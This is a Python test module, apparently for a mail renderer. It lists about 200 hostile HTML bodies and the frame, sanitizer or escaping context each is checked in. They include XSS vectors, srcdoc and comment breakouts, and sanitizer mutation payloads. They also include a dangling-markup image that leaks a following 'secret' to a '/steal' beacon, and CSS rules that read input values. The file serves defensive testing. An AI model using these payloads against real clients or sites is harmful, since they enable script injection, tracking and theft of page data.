"""Hostile HTML: bodies that run scripts, request, navigate, open windows or break out of a frame.

Each has the way of showing mail in which it is seen to work, and the mark by which it is seen. In a
body ``{u}`` is the address of its own at the beacon and ``{ran}`` a script that logs its name.
"""

from __future__ import annotations

import html as escaping
import json
import re
from typing import TYPE_CHECKING, Final

from tests.browser.attack import MAP, Attack
from tests.browser.smuggled import MUTATIONS, SMUGGLED

if TYPE_CHECKING:
    from collections.abc import Callable


def _framed(html: str, rights: str = "") -> str:
    return f'<iframe {rights} srcdoc="{escaping.escape(html)}" width=300 height=200></iframe>'


def _cleaned(html: str) -> str:
    return re.sub(r"(?is)<script.*?</script>", "", html)


def _rewritten(html: str) -> str:
    """Parsed without scripts, serialized, and parsed again, as a sanitizer in a page does."""
    text = json.dumps(html).replace("<", "\\u003c")
    parsed = f'new DOMParser().parseFromString({text}, "text/html").body.innerHTML'
    return (
        f"<div id=here></div><script>document.getElementById('here').innerHTML = {parsed}</script>"
    )


WAYS: Final[dict[str, Callable[[str], str]]] = {
    "frame": _framed,  # escaped, without a sandbox
    "page": str,
    "sandbox": lambda html: _framed(html, "sandbox"),  # without a policy
    "quotes": lambda html: f'<iframe srcdoc="{html}"></iframe>',
    "apostrophes": lambda html: f"<iframe srcdoc='{html}'></iframe>",
    "decoded": lambda html: f'<iframe srcdoc="{escaping.unescape(html)}"></iframe>',
    "decoded twice": lambda html: (
        f'<iframe srcdoc="{escaping.unescape(escaping.unescape(html))}"></iframe>'
    ),
    "nested raw": lambda html: f"<iframe srcdoc=\"<iframe srcdoc='{html}'></iframe>\"></iframe>",
    "comment": lambda html: f"<!-- {html} -->",
    "textarea": lambda html: f"<textarea>{html}</textarea>",
    "title": lambda html: f"<title>{html}</title>",
    "style": lambda html: f"<style>{html}</style>",
    "cdata": lambda html: f"<svg><![CDATA[{html}]]></svg>",
    "json": lambda html: f"<script>var mail = {json.dumps(html)}</script>",
    "cleaned": _cleaned,
    "without NUL": lambda html: _cleaned(html).replace("\0", ""),
    "before a secret": lambda html: f"<div>{html}</div><p title='secret'>it's ours</p>",
    "rewritten": _rewritten,
}

_DOCUMENT: Final = "data:text/html,<script>{ran}</script>"
_BROKEN: Final = '<img src=x: onerror="{ran}">'
_WORKER: Final = "new Worker(URL.createObjectURL(new Blob(['fetch(`{u}/worker`)'])))"

SCRIPTS: Final = (
    Attack("script", "script", "<script>{ran}</script>"),
    Attack("script-src", "script", '<script src="{u}/x.js"></script>'),
    Attack("script-slash", "script", "<script/x>{ran}</script/y>"),
    Attack("script-module", "script", '<script type=module>import "{u}/x.js"</script>'),
    Attack(
        "script-importmap",
        "script",
        (
            '<script type=importmap>{"imports":{"x":"{u}/x.js"}}</script><script type=module>'
            'import "x"</script>'
        ),
        way="page",
    ),
    Attack(
        "script-in-script",
        "script",
        "<scr<script></script>ipt>{ran}</scr<script></script>ipt>",
        way="cleaned",
    ),
    Attack("script-nul", "script", "<scr\0ipt>{ran}</scr\0ipt>", way="without NUL"),
    Attack("script-bom", "script", "\ufeff<script>{ran}</script>"),
    Attack(
        "script-after-csp",
        "script",
        (
            "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">"
            "<script>{ran}</script>"
        ),
    ),
    Attack("svg-script", "script", "<svg><script>{ran}</script></svg>"),
    Attack(
        "svg-script-entity",
        "script",
        "<svg><script>&#99;onsole.log(/ran:svg-script-entity/)</script></svg>",
    ),
    Attack("svg-script-href", "script", '<svg><script href="{u}/x.js"></script></svg>'),
    Attack("svg-onload", "script", '<svg onload="{ran}">'),
    Attack(
        "svg-animate-onbegin", "script", '<svg><animate onbegin="{ran}" attributeName=x dur=1s>'
    ),
    Attack(
        "svg-link",
        "script",
        '<svg><a xlink:href="javascript:{ran}"><text y=20>press</text></a></svg>',
        "left",
    ),
    Attack(
        "svg-animate-href",
        "script",
        (
            "<svg><a><animate attributeName=href values=javascript:{ran} /><text y=20>press</text>"
            "</a></svg>"
        ),
        "left",
    ),
    Attack("math-handler", "script", '<math><mtext onclick="{ran}">press</mtext></math>', "left"),
    Attack("img-onerror", "script", _BROKEN),
    Attack("body-onload", "script", '<body onload="{ran}">'),
    Attack("details-ontoggle", "script", '<details open ontoggle="{ran}">x</details>'),
    Attack("input-autofocus", "script", '<input autofocus onfocus="{ran}">', way="page"),
    Attack(
        "style-onanimation",
        "script",
        '<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart="{ran}">x',
    ),
    Attack("audio-onerror", "script", '<audio src=x: onerror="{ran}"></audio>'),
    Attack("source-onerror", "script", '<video><source src=x: onerror="{ran}"></video>'),
    Attack(
        "visibility-handler",
        "script",
        '<p style="content-visibility:auto" oncontentvisibilityautostatechange="{ran}">x',
    ),
    Attack("pointer-handler", "script", '<p onpointerover="{ran}" onclick=1>press</p>', "left"),
    Attack("editable-onfocus", "script", '<p contenteditable onfocus="{ran}">press</p>', "left"),
    Attack(
        "popover-handler",
        "script",
        '<button popovertarget=p>press</button><div popover id=p onbeforetoggle="{ran}">x</div>',
        "left",
    ),
    Attack(
        "command-handler",
        "script",
        (
            '<button commandfor=d command=show-modal>press</button><dialog id=d oncommand="{ran}">'
            "x</dialog>"
        ),
        "left",
    ),
    Attack(
        "dialog-form",
        "script",
        '<dialog open><form method=dialog onsubmit="{ran}"><button>press</button></form></dialog>',
        "left",
    ),
    Attack(
        "shadow-root", "script", f"<div><template shadowrootmode=open>{_BROKEN}</template></div>"
    ),
    Attack("iframe-onload", "script", '<iframe onload="{ran}"></iframe>'),
    Attack("iframe-srcdoc", "script", '<iframe srcdoc="<script>{ran}</script>"></iframe>'),
    Attack("iframe-javascript", "script", '<iframe src="javascript:{ran}"></iframe>'),
    Attack("iframe-data", "script", f'<iframe src="{_DOCUMENT}"></iframe>'),
    Attack("object-data", "script", f'<object data="{_DOCUMENT}"></object>'),
    Attack("embed-data", "script", f'<embed src="{_DOCUMENT}">'),
    Attack(
        "object-svg",
        "script",
        (
            "<object data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
            "onload='{ran}'/>\"></object>"
        ),
    ),
    Attack("worker", "/worker", f"<script>{_WORKER}</script>"),
    Attack(
        "service-worker",
        "script",
        "<script>navigator.serviceWorker.register('/x.js').then(() => {ran})</script>",
        way="page",
    ),
    Attack("very-deep", "script", "<b>" * 10_000 + _BROKEN),
    Attack("reads-the-page", "script", "<script>top.document.body && {ran}</script>"),
)
LINKS: Final = (
    Attack("link-javascript", "script", '<a href="javascript:{ran}">press</a>', "left"),
    Attack("link-javascript-enter", "script", '<a href="javascript:{ran}">press</a>', "enter"),
    Attack("link-javascript-tab", "script", '<a href="java&#9;script:{ran}">press</a>', "left"),
    Attack("link-javascript-newline", "script", '<a href="java\nscript:{ran}">press</a>', "left"),
    Attack(
        "link-javascript-entity",
        "script",
        '<a href="&#x6A;avascript&colon;{ran}">press</a>',
        "left",
    ),
    Attack(
        "link-javascript-control", "script", '<a href="&#1;&#32;javascript:{ran}">press</a>', "left"
    ),
    Attack("link-data", "script", f'<a href="{_DOCUMENT}">press</a>', "left"),
    Attack("link-plain", "frame", '<a href="{u}/go">press</a>', "left"),
    Attack("link-middle", "/go", '<a href="{u}/go">press</a>', "middle"),
    Attack("link-control", "/go", '<a href="{u}/go">press</a>', "control"),
    Attack("link-self", "frame", '<a href="{u}/go" target=_self>press</a>', "left"),
    Attack("link-parent", "page", '<a href="{u}/go" target=_parent>press</a>', "left"),
    Attack("link-top", "page", '<a href="{u}/go" target=_top>press</a>', "left"),
    Attack("link-blank", "popup", '<a href="{u}/go" target=_blank>press</a>', "left"),
    Attack("link-named", "popup", '<a href="{u}/go" target=elsewhere>press</a>', "left"),
    Attack(
        "link-frame", "frame", '<iframe name=x></iframe><a href="{u}/go" target=x>press</a>', "left"
    ),
    Attack(
        "link-opener",
        "page",
        '<a href="{u}/x.opener" target=_blank rel=opener>press</a>',
        "left",
        way="page",
    ),
    Attack(
        "link-over-all",
        "frame",
        '<a href="{u}/go" style="position:fixed;inset:0">press</a>',
        "left",
    ),
    Attack("link-ping", "/ping", '<a href="{u}/go" ping="{u}/ping">press</a>', "left"),
    Attack(
        "link-download",
        "download",
        '<a href="data:application/octet-stream,x" download=x.exe>press</a>',
        "left",
    ),
    Attack("link-attachment", "download", '<a href="{u}/file.bin">press</a>', "left"),
    Attack("link-slashes", "frame", '<a href="\\\\{host}\\go">press</a>', "left"),
    Attack(
        "link-transition",
        "frame",
        '<style>@view-transition{navigation:auto}</style><a href="{u}/go">press</a>',
        "left",
    ),
    Attack("base-target", "page", '<base target=_top><a href="{u}/go">press</a>', "left"),
    Attack("base-href", "frame", '<base href="{u}/"><a href="go">press</a>', "left"),
    Attack("map-area", "frame", MAP + '<area shape=default href="{u}/go"></map>', "left"),
    Attack(
        "map-javascript",
        "script",
        MAP + '<area shape=default href="javascript:{ran}"></map>',
        "left",
    ),
    Attack("refresh", "frame", '<meta http-equiv=refresh content="0;url={u}/go">'),
    Attack("refresh-bare", "frame", "<p>x</p><meta http-equiv=REFRESH content=\"0, '{u}/go'\">"),
    Attack("refresh-data", "script", f'<meta http-equiv=refresh content="0;url={_DOCUMENT}">'),
    Attack("script-open", "popup", "<script>open('{u}/go')</script>"),
    Attack("script-top", "page", "<script>top.location = '{u}/go'</script>", way="page"),
)
FORMS: Final = (
    Attack(
        "form",
        "frame",
        '<form action="{u}/go"><input name=q value=1><button>press</button></form>',
        "left",
    ),
    Attack(
        "form-post", "frame", '<form action="{u}/go" method=post><input type=submit></form>', "left"
    ),
    Attack("form-enter", "frame", '<form action="{u}/go"><input name=q autofocus></form>', "enter"),
    Attack(
        "form-label",
        "frame",
        '<form action="{u}/go"><label for=b>press</label><input type=submit id=b hidden></form>',
        "left",
    ),
    Attack(
        "form-javascript",
        "script",
        '<form action="javascript:{ran}"><button>press</button></form>',
        "left",
    ),
    Attack(
        "form-top",
        "page",
        '<form action="{u}/go" target=_top><button>press</button></form>',
        "left",
    ),
    Attack(
        "form-blank",
        "popup",
        '<form action="{u}/go" target=_blank><button>press</button></form>',
        "left",
    ),
    Attack(
        "form-far",
        "frame",
        '<form id=f action="{u}/go"></form><button form=f>press</button>',
        "left",
    ),
    Attack(
        "formaction", "frame", '<form><button formaction="{u}/go">press</button></form>', "left"
    ),
    Attack(
        "formaction-javascript",
        "script",
        '<form><input type=submit formaction="javascript:{ran}"></form>',
        "left",
    ),
    Attack(
        "formtarget",
        "page",
        '<form action="{u}/go"><button formtarget=_top>press</button></form>',
        "left",
    ),
    Attack(
        "form-nested",
        "frame",
        '<form><div></form><form action="{u}/go"><button>press</button></form></div>',
        "left",
    ),
)
LOADS: Final = (
    Attack("img", "/img.gif", '<img src="{u}/img.gif">', is_image=True),
    Attack("img-lazy", "/img.gif", '<img loading=lazy src="{u}/img.gif">', is_image=True),
    Attack("img-srcset", "/img.gif", '<img srcset="{u}/img.gif 1x">', is_image=True),
    Attack(
        "picture",
        "/img.gif",
        '<picture><source srcset="{u}/img.gif"><img></picture>',
        is_image=True,
    ),
    Attack(
        "img-slashes", "/img.gif", '<img src="\\\\{host}\\img.gif">'
    ),  # without a scheme: nowhere, in a mail
    Attack("img-relative-scheme", "/img.gif", '<img src="//{host}/img.gif">'),
    Attack(
        "img-huge-attribute",
        "/img.gif",
        f'<img alt="{"A" * 300_000}" src="{{u}}/img.gif">',
        is_image=True,
    ),
    Attack("img-surrogate", "/img.gif", '<img title="\ud800" src="{u}/img.gif">', is_image=True),
    Attack(
        "img-conditional",
        "/img.gif",
        '<![if !mso]><img src="{u}/img.gif"><![endif]>',
        is_image=True,
    ),
    Attack(
        "img-noscript",
        "/img.gif",
        '<noscript><img src="{u}/img.gif"></noscript>',
        way="sandbox",
        is_image=True,
    ),
    Attack("img-swallows", "/steal", "<img src='{u}/steal?", way="before a secret"),
    Attack("input-image", "/img.gif", '<input type=image src="{u}/img.gif">', is_image=True),
    Attack("body-background", "/img.gif", '<body background="{u}/img.gif">', is_image=True),
    Attack(
        "table-background",
        "/img.gif",
        '<table background="{u}/img.gif"><td>x</table>',
        is_image=True,
    ),
    Attack(
        "svg-image",
        "/img.gif",
        '<svg><image href="{u}/img.gif" width=9 height=9 /></svg>',
        is_image=True,
    ),
    Attack(
        "svg-feimage",
        "/img.gif",
        (
            '<svg><filter id=f><feImage href="{u}/img.gif" /></filter><rect filter="url(#f)" '
            "width=9 height=9 /></svg>"
        ),
        is_image=True,
    ),
    Attack("video-poster", "/img.gif", '<video poster="{u}/img.gif"></video>', is_image=True),
    Attack("video", "/video", '<video src="{u}/video"></video>'),
    Attack("audio", "/audio", '<audio src="{u}/audio"></audio>'),
    Attack("source", "/video", '<video><source src="{u}/video"></video>'),
    Attack(
        "track",
        "/x.vtt",
        '<video crossorigin src="data:video/mp4,x"><track default src="{u}/x.vtt"></video>',
    ),
    Attack("iframe-src", "/go", '<iframe src="{u}/go"></iframe>'),
    Attack("frameset", "/go", '<frameset><frame src="{u}/go"></frameset>'),
    Attack("object", "/object", '<object data="{u}/object"></object>'),
    Attack("embed", "/embed", '<embed src="{u}/embed">'),
    Attack("base-href-img", "/img.gif", '<base href="{u}/"><img src="img.gif">'),
    Attack("link-stylesheet", "/x.css", '<link rel=stylesheet href="{u}/x.css">'),
    Attack("link-preload", "/img.gif", '<link rel=preload as=image href="{u}/img.gif">'),
    Attack("link-prefetch", "/go", '<link rel=prefetch href="{u}/go">'),
    Attack("link-modulepreload", "/x.js", '<link rel=modulepreload href="{u}/x.js">'),
    Attack("link-icon", "/icon.gif", '<link rel=icon href="{u}/icon.gif">', way="page"),
    Attack("css-import", "/x.css", '<style>@import "{u}/x.css";</style>'),
    Attack("css-import-layer", "/x.css", "<style>@import url({u}/x.css) layer(a);</style>"),
    Attack(
        "css-font",
        "/font",
        "<style>@font-face{font-family:f;src:url({u}/font)}p{font-family:f}</style><p>x",
    ),
    Attack("css-background", "/img.gif", '<p style="background:url({u}/img.gif)">x', is_image=True),
    Attack(
        "css-escaped", "/img.gif", '<p style="background:\\75 \\72l({u}/img.gif)">x', is_image=True
    ),
    Attack(
        "css-var",
        "/img.gif",
        '<p style="--a:url({u}/img.gif);background:var(--a)">x',
        is_image=True,
    ),
    Attack(
        "css-image-set",
        "/img.gif",
        "<p style=\"background:image-set('{u}/img.gif' 1x)\">x",
        is_image=True,
    ),
    Attack(
        "css-list-style", "/img.gif", '<li style="list-style:url({u}/img.gif)">x', is_image=True
    ),
    Attack(
        "css-content",
        "/img.gif",
        "<style>p::after{content:url({u}/img.gif)}</style><p>x",
        is_image=True,
    ),
    Attack(
        "css-border-image",
        "/img.gif",
        '<p style="border:1px solid;border-image:url({u}/img.gif) 1">x',
        is_image=True,
    ),
    Attack(
        "css-cursor",
        "/img.gif",
        '<p onclick=1 style="cursor:url({u}/img.gif),auto">press</p>',
        "left",
        is_image=True,
    ),
    Attack("css-mask", "/img.gif", '<p style="mask:url({u}/img.gif)">x', is_image=True),
    Attack(
        "css-shape",
        "/img.gif",
        '<p style="float:left;shape-outside:url({u}/img.gif)">x',
        is_image=True,
    ),
    Attack("css-clip-path", "/x.svg", '<p style="clip-path:url({u}/x.svg#p)">x', is_image=True),
    Attack(
        "css-reads-values",
        "/a",
        "<style>input[value^=a]{background:url({u}/a)}</style><input value=abc>",
        is_image=True,
    ),
)
BREAKOUTS: Final = (
    Attack("out-of-quotes", "script", f'"></iframe>{_BROKEN}', way="quotes"),
    Attack("out-of-apostrophes", "script", f"'></iframe>{_BROKEN}", way="apostrophes"),
    Attack("out-form-feed", "script", f'"\f></iframe\f>{_BROKEN}', way="quotes"),
    Attack(
        "out-entities",
        "script",
        "&quot;&gt;&lt;/iframe&gt;&lt;script&gt;{ran}&lt;/script&gt;",
        way="decoded",
    ),
    Attack(
        "out-entities-twice",
        "script",
        (
            "&amp;quot;&amp;gt;&amp;lt;/iframe&amp;gt;&amp;lt;script&amp;gt;{ran}&amp;lt;"
            "/script&amp;gt;"
        ),
        way="decoded twice",
    ),
    Attack(
        "out-inner-frame",
        "script",
        "&#39;&gt;&lt;/iframe&gt;&lt;script&gt;{ran}&lt;/script&gt;",
        way="nested raw",
    ),
    Attack("out-of-comment", "script", "--><script>{ran}</script>", way="comment"),
    Attack("out-of-comment-bang", "script", "--!><script>{ran}</script>", way="comment"),
    Attack("out-of-cdata", "script", "]]><script>{ran}</script>", way="cdata"),
    Attack("out-of-textarea", "script", "</textarea><script>{ran}</script>", way="textarea"),
    Attack("out-of-title", "script", "</title ><script>{ran}</script>", way="title"),
    Attack("out-of-style", "script", "</style/><script>{ran}</script>", way="style"),
    Attack("out-of-script", "script", "</script><script>{ran}</script>", way="json"),
    *(
        Attack(f"attribute-ends-{tag}", "script", f"<{tag}><p title='</{tag}>{_BROKEN}'></{tag}>")
        for tag in ("style", "title", "textarea", "xmp", "noembed", "noframes", "noscript")
    ),
    Attack("comment-ends-early", "script", "<!--><script>{ran}</script>-->"),
    Attack(
        "mutates-svg-style",
        "script",
        f"<svg></p><style><a id='</style>{_BROKEN}'>",
        way="rewritten",
    ),
    Attack(
        "mutates-mglyph",
        "script",
        f"<form><math><mtext></form><form><mglyph><style></math>{_BROKEN}",
        way="rewritten",
    ),
)
QUIET: Final = (
    *MUTATIONS,
    Attack("marquee-onstart", "", '<marquee onstart="{ran}">x</marquee>'),
    Attack(
        "refresh-noscript",
        "",
        '<noscript><meta http-equiv=refresh content="0;url={u}/go"></noscript>',
        way="sandbox",
    ),
    Attack("svg-use", "", '<svg><use href="{u}/x.svg#p" /></svg>'),
    Attack("css-filter", "", '<p style="filter:url({u}/x.svg#f)">x'),
    Attack("link-preconnect", "", '<link rel=preconnect href="{u}">'),
    Attack("link-manifest", "", '<link rel=manifest href="{u}/manifest">', way="page"),
    Attack(
        "speculation-rules",
        "",
        (
            '<script type=speculationrules>{"prefetch":[{"urls":["{u}/go"],'
            '"eagerness":"immediate"}]}</script>'
        ),
        way="page",
    ),
    Attack(
        "mutates-noscript",
        "",
        f"<noscript><p title='</noscript>{_BROKEN}'></noscript>",
        way="rewritten",
    ),
    Attack(
        "applet",
        "",
        '<applet code="{u}/x.class" archive="{u}/x.jar"><param name=src value="{u}/p"></applet>',
    ),
    Attack("object-param", "", '<object type=text/html><param name=src value="{u}/p"></object>'),
    Attack("embed-javascript", "", '<embed src="javascript:{ran}">'),
    Attack("link-vbscript", "", '<a href="vbscript:{ran}">press</a>', "left"),
    Attack("link-mail", "", '<a href="mailto:x@example.com">press</a>', "left"),
    Attack("link-file", "", '<a href="file:///">press</a>', "left"),
    Attack("math-link", "", '<math href="javascript:{ran}"><mi>press</mi></math>', "left"),
    Attack("refresh-javascript", "", '<meta http-equiv=refresh content="0;url=javascript:{ran}">'),
    Attack("dns-prefetch", "", '<link rel=dns-prefetch href="{u}">'),
    Attack("portal", "", '<portal src="{u}/go"></portal><fencedframe src="{u}/go"></fencedframe>'),
    Attack("isindex", "", '<isindex type=image src="{u}/img.gif" action="{u}/go">'),
    Attack("html-manifest", "", '<html manifest="{u}/manifest"><q cite="{u}/cite">x</q>'),
    Attack("xml-stylesheet", "", '<?xml-stylesheet href="{u}/x.css"?>'),
    Attack("attribution", "", '<a href="#x" attributionsrc="{u}/a">press</a>', "left"),
    Attack("utf-7", "", "<meta charset=utf-7>+ADw-script+AD4-{ran}+ADw-/script+AD4-"),
    Attack("conditional-comment", "", "<!--[if gte IE 4]><script>{ran}</script><![endif]-->"),
    Attack("plaintext", "", "<plaintext></plaintext><script>{ran}</script>"),
    Attack("unclosed-comment", "", "<!-- <script>{ran}</script>"),
    Attack("unclosed-attribute", "", '<a href="{u}/go'),
    Attack("unclosed-select", "", "<select><option><table><td>"),
    Attack(
        "script-in-data-image",
        "",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{ran}'/>\">",
    ),
    Attack(
        "css-visited",
        "",
        '<style>a:visited{background:url({u}/img.gif)}</style><a href="about:blank">press</a>',
    ),
    Attack(
        "css-javascript",
        "",
        '<p style="background:url(javascript:{ran});behavior:url({u}/x);width:expression({ran})">x',
    ),
)
"""Attacks that never work in this Chromium; they prove little, but they must not work either."""
ATTACKS: Final = (*SCRIPTS, *LINKS, *FORMS, *LOADS, *BREAKOUTS, *SMUGGLED)
